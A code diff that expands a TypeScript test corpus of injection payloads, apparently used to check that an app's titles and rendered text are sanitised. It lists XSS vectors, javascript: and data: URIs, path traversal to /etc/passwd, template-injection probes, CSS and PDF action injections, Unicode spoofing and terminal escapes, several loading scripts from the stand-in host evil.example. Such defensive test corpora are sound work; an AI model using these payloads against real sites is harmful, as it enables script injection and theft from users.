@@ -66,10 +66,136 @@ const STRUCTURE = [
   'constructor',
 ]
 
-/** More than 300 of them. */
+/** Sets `__pwned` where it is run. */
+const RUN = 'window.__pwned=1'
+const MORE_MARKUP = [
+  `<img src=x onerror="${RUN}">`,
+  `<img src="http://evil.example/x.png">`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src="http://evil.example/x.js"></script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `' onfocus='${RUN}' autofocus='`,
+  `" onmouseover="${RUN}" x="`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<object data="javascript:${RUN}"></object>`,
+  '<embed src="http://evil.example/x.swf">',
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<form action="http://evil.example"><button autofocus>x</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=http://evil.example">`,
+  '<base href="http://evil.example/">',
+  '<link rel="stylesheet" href="http://evil.example/x.css">',
+  '<template shadowrootmode="open"><slot></slot></template>',
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  '<svg><use href="http://evil.example/x.svg#x"/></svg>',
+  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${RUN}`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+]
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
+  `data:image/svg+xml,<svg onload="${RUN}"/>`,
+  'file:///etc/passwd',
+  'http://evil.example/',
+  '//evil.example/x',
+  'https://evil.example@example.org/',
+  'app://journal/../../etc/passwd',
+  'blob:http://evil.example/x',
+  'smb://evil.example/share',
+  'ms-msdt:/id PCWDiagnostic',
+  '\\\\evil.example\\share',
+  '../../../../etc/passwd',
+]
+const MARKDOWN = [
+  ...SCHEMES.slice(0, 10).flatMap((url) => [`[press](${url})`, `![shown](${url})`]),
+  `[press](javascript:${RUN} "title")`,
+  `[press][1]\n\n[1]: javascript:${RUN}`,
+  `<javascript:${RUN}>`,
+  '<http://evil.example/>',
+  'www.evil.example',
+  `[![x](http://evil.example/x.png)](javascript:${RUN})`,
+  `[x](&#106;avascript:${RUN})`,
+  `- [ ] <img src=x onerror=${RUN}>`,
+  `| <b> | [x](javascript:${RUN}) |\n|---|---|\n| a | b |`,
+  `[^1]\n\n[^1]: <script>${RUN}</script>`,
+]
+const TEMPLATES = ['{{7*7}}', '#{7*7}', '<%= 7*7 %>', '${7*7}', '{%import os%}', '*{7*7}', `[[${RUN}]]`, '`${7*7}`']
+const STYLES = [
+  'red;background:url(http://evil.example/x)',
+  `</style><img src=x onerror=${RUN}>`,
+  `<style>@import 'http://evil.example/x.css'</style>`,
+  '<style>*{display:none}</style>',
+  'expression(alert(1))',
+  `" style="position:fixed;inset:0" x="`,
+  'var(--x, url(http://evil.example))',
+  '[data-x="',
+]
+/** What a PDF's own syntax could read as more than text. */
+const PDF = [
+  ') /S /JavaScript /JS (app.alert(1)) (',
+  '>> /OpenAction << /S /Launch /F (calc.exe) >>',
+  '/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>',
+  '\\) \\( \\\\',
+  'endstream\nendobj\n1 0 obj\n<< /S /URI /URI (http://evil.example) >>\nendobj',
+  '%PDF-1.7 %%EOF',
+  '<feff006a0073>',
+]
+const HIDDEN = [
+  'a\u200Bb\u200Cc\u200Dd',
+  '\u2060\u2061\u2062',
+  'admin\u202Egpj.exe\u202C',
+  '\u2066left\u2069\u2067right\u2069',
+  '\u061C\u200E\u200F',
+  'a\u0008\u0007\u001Bb',
+  '\u001B]8;;http://evil.example\u0007x\u001B]8;;\u0007',
+  '\u001B[31mred',
+  '\u0085\u00A0\u2007',
+  '\u2028window.__pwned=1\u2029',
+  '\uFFFE\uFFFF',
+  '\uDFFF lone',
+  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Da',
+  '\u{E0001}\u{E0041}\u{E007F}',
+  '\u05D0\u05D1\u05D2 <b> \u0627\u0628',
+  '\u{1F469}\u200D\u{1F680}'.repeat(20),
+]
+const KEYS = ['prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf', 'null', 'NaN', '[object Object]']
+const LONG = [
+  '<b>'.repeat(300),
+  'W'.repeat(900),
+  `<img src=x onerror=${RUN}> ${'long '.repeat(180)}`,
+  '['.repeat(900),
+  '> '.repeat(450),
+]
+
+/** More than 500 of them, none twice; each fits a title once it is trimmed. */
 export const PAYLOADS: readonly string[] = [
-  ...STARTS.flatMap((start) => CALLS.map((call) => start + call)),
-  ...STARTS.flatMap((start) => MARKUP.slice(0, 12).map((markup) => start + markup)),
-  ...MARKUP,
-  ...STRUCTURE,
+  ...new Set([
+    ...STARTS.flatMap((start) => CALLS.map((call) => start + call)),
+    ...STARTS.flatMap((start) => MARKUP.slice(0, 12).map((markup) => start + markup)),
+    ...MARKUP,
+    ...STRUCTURE,
+    ...MORE_MARKUP,
+    ...SCHEMES,
+    ...MARKDOWN,
+    ...TEMPLATES,
+    ...STYLES,
+    ...PDF,
+    ...HIDDEN,
+    ...KEYS,
+    ...LONG,
+  ]),
 ]
